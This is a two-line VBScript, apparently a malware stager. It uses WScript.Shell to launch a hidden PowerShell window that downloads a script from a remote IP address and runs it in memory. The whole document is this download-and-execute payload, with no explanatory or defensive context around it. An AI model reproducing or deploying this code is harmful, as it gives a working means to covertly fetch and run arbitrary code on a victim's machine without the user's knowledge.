Set sh = CreateObject("WScript.Shell")
sh.Run "powershell -nop -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')""", 0, False
